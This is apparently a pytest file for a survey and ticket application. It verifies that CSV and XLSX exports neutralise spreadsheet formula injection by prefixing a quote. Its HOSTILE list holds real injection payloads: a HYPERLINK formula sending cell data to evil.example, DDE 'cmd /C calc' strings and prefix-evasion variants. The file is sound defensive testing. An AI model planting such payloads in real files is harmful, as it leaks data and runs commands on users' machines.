"""Spreadsheet formula injection (OWASP "CSV injection"): hostile values from ticket fields,
comments, interview entries and imports reach every CSV and XLSX export as text, never as a
formula; what is stored stays exactly as entered."""
import csv
import io

from openpyxl import load_workbook
from sqlalchemy import select

from core.db import db
from core.export import csv_lines, neutralise
from surveys.models import Response
from surveys.services import complete_response, response_for, save_answers
from tests.conftest import login, make_ticket, post_form
from tests.test_channels import CSV_HEADER

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1"]
QUERY = "date_from=2026-01-01&date_to=2026-12-31&period=month"


def test_formula_like_text_gets_a_leading_quote_and_numbers_stay_numbers():
    assert [neutralise(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    assert [neutralise(v) for v in (-3, 4.5, "网速很快", "a=b", "", None)] == [-3, 4.5, "网速很快", "a=b", "", None]
    assert list(csv_lines([["=1+1", -1, "ok"]])) == ["'=1+1,-1,ok\r\n"]


def hostile_responses(app, client, tmp_path):
    """Hostile text through each way in: the CSV import, a ticket's fields, an interview."""
    row = io.StringIO()
    csv.writer(row).writerow([HOSTILE[3], "web", "2026-03-01T10:00:00Z", "fault", HOSTILE[0], HOSTILE[1], 4,
                              *[""] * 7, HOSTILE[2]])
    path = tmp_path / "evil.csv"
    path.write_text(CSV_HEADER + row.getvalue(), encoding="utf-8")
    assert "imported 1 responses" in app.test_cli_runner().invoke(args=["import-responses", str(path)]).output
    invitation = make_ticket(region="+1+1", agent="-cmd").invitation  # the ticket's own fields
    response = response_for(invitation)
    save_answers(response, {"overall": 4, "comment": "=2*3"})
    db.session.flush()
    complete_response(response)
    db.session.commit()
    login(client, "agent")
    form = {"customer": "", "ticket_kind": "fault", "region": "=1+1", "agent": HOSTILE[6], "overall": "3",
            "attitude": "4", "efficiency": "2", "stability": "2", "after_sales": "3", "nps": "6",
            "resolved": "no", "callback": "no", "comment": "@SUM(A1:A9)"}
    assert post_form(client, "/interviews/new", form).status_code == 303
    client.get("/logout")
    login(client, "manager")


def test_response_exports_carry_no_formula(app, ctx, client, tmp_path):
    hostile_responses(app, client, tmp_path)
    stored = db.session.scalars(select(Response).order_by(Response.id)).all()
    assert stored[0].region == HOSTILE[0] and stored[1].agent == "-cmd"  # stored as entered
    text = client.get(f"/dashboard/responses.csv?{QUERY}").get_data(as_text=True).lstrip("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [(r["respondent"], r["region"], r["agent"], r["comment"]) for r in rows] == [
        ("'" + HOSTILE[3], "'" + HOSTILE[0], "'" + HOSTILE[1], "'" + HOSTILE[2]),
        ("C-1", "'+1+1", "'-cmd", "'=2*3"),
        ("", "'=1+1", "'" + HOSTILE[6], "'@SUM(A1:A9)")]
    sheet = load_workbook(io.BytesIO(client.get(f"/dashboard/responses.xlsx?{QUERY}").data))["responses"]
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    texts = {cell.value for cell in cells}
    assert {HOSTILE[0], HOSTILE[1], HOSTILE[2], HOSTILE[3], "+1+1", "=1+1", "=2*3", "@SUM(A1:A9)"} <= texts  # exact text
    assert all(cell.quotePrefix for cell in cells if cell.value in (HOSTILE[0], "=2*3"))


def test_figure_exports_carry_no_formula(app, ctx, client, tmp_path):
    hostile_responses(app, client, tmp_path)
    text = client.get(f"/dashboard/figures.csv?{QUERY}").get_data(as_text=True).lstrip("\ufeff")
    keys = {row[1] for row in csv.reader(io.StringIO(text)) if row and row[0] in ("region", "agent")}
    assert {"'" + HOSTILE[0], "'+1+1", "'=1+1", "'" + HOSTILE[1], "'-cmd", "'" + HOSTILE[6]} <= keys
    assert not any(key.startswith(("=", "+", "-", "@", "\t")) for key in keys)
    workbook = load_workbook(io.BytesIO(client.get(f"/dashboard/figures.xlsx?{QUERY}").data))
    assert all(cell.data_type != "f" for sheet in workbook for row in sheet.iter_rows() for cell in row)
